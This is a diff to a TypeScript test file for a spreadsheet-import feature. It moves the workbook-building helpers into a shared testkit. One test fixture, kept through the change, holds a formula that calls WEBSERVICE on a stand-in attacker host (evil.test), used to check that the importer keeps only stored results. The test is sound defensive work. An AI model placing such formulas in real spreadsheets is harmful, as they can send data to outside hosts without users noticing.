@@ -8,6 +8,7 @@ import {
 import { exportTasks } from '@hub/contract/task-search/task-search.calls.ts';
 import { buildInvention } from '@hub/testkit/builders/build-invention.ts';
 import { buildPerson } from '@hub/testkit/builders/build-person.ts';
+import { textCell, workbookParts } from '@hub/testkit/workbook-parts.ts';
 import { strToU8, zipSync } from 'fflate';
 import { sql } from 'kysely';
 import { afterAll, beforeAll, expect, test } from 'vitest';
@@ -30,36 +31,13 @@ const readCells = async ({ id }: { id: string }) => {
   return body.collection.map(({ cells }) => cells);
 };
 
-const sheet = (rows: string) =>
-  `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
-
 /** A workbook with one sheet, as a spreadsheet writes it. */
 const writeWorkbook = (rows: string, parts: Record<string, Uint8Array> = {}) => {
-  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
-  const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
-  const packages = 'http://schemas.openxmlformats.org/package/2006';
-  return zipSync({
-    '[Content_Types].xml': strToU8(
-      `<Types xmlns="${packages}/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`,
-    ),
-    '_rels/.rels': strToU8(
-      `<Relationships xmlns="${packages}/relationships"><Relationship Id="r" Type="${relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
-    ),
-    'xl/workbook.xml': strToU8(
-      `<workbook xmlns="${main}" xmlns:r="${relations}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>`,
-    ),
-    'xl/_rels/workbook.xml.rels': strToU8(
-      `<Relationships xmlns="${packages}/relationships"><Relationship Id="r1" Type="${relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
-    ),
-    'xl/styles.xml': strToU8(
-      `<styleSheet xmlns="${main}"><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>`,
-    ),
-    'xl/worksheets/sheet1.xml': strToU8(sheet(rows)),
-    ...parts,
-  });
+  const texts = Object.entries(workbookParts(rows)).map(
+    ([name, content]) => [name, strToU8(content)] as const,
+  );
+  return zipSync({ ...Object.fromEntries(texts), ...parts });
 };
-
-const text = (at: string, value: string) => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`;
 
 test('a file in another encoding is refused with what to do, and UTF-16 with its mark is read', async () => {
   const latin = new Uint8Array(Buffer.from('Reference,Title\nEN-1,Gerät\n', 'latin1'));
@@ -100,9 +78,9 @@ test('formulas of CSV files are stored as text, and exported so that no spreadsh
 test('a workbook is read with the stored results of its formulas, and with its dates as dates', async () => {
   await buildInvention(hub.db, { reference_list: ['WB-1'] });
   const workbook = writeWorkbook(
-    `<row r="1">${text('A1', 'Reference')}${text('B1', 'Title')}${text('C1', 'Due date')}</row>
-     <row r="2">${text('A2', 'WB-1')}<c r="B2" t="str"><f>CONCAT("Pay ",WEBSERVICE("http://evil.test"))</f><v>Pay fee</v></c><c r="C2" s="1"><v>46477</v></c></row>
-     <row r="3">${text('A3', 'WB-1')}${text('B3', '=1+1')}<c r="C3"><f>TODAY()</f></c></row>`,
+    `<row r="1">${textCell('A1', 'Reference')}${textCell('B1', 'Title')}${textCell('C1', 'Due date')}</row>
+     <row r="2">${textCell('A2', 'WB-1')}<c r="B2" t="str"><f>CONCAT("Pay ",WEBSERVICE("http://evil.test"))</f><v>Pay fee</v></c><c r="C2" s="1"><v>46477</v></c></row>
+     <row r="3">${textCell('A3', 'WB-1')}${textCell('B3', '=1+1')}<c r="C3"><f>TODAY()</f></c></row>`,
   );
   const checked = await checkTable(client, 'tasks', workbook);
   expect(await readCells(checked)).toEqual([
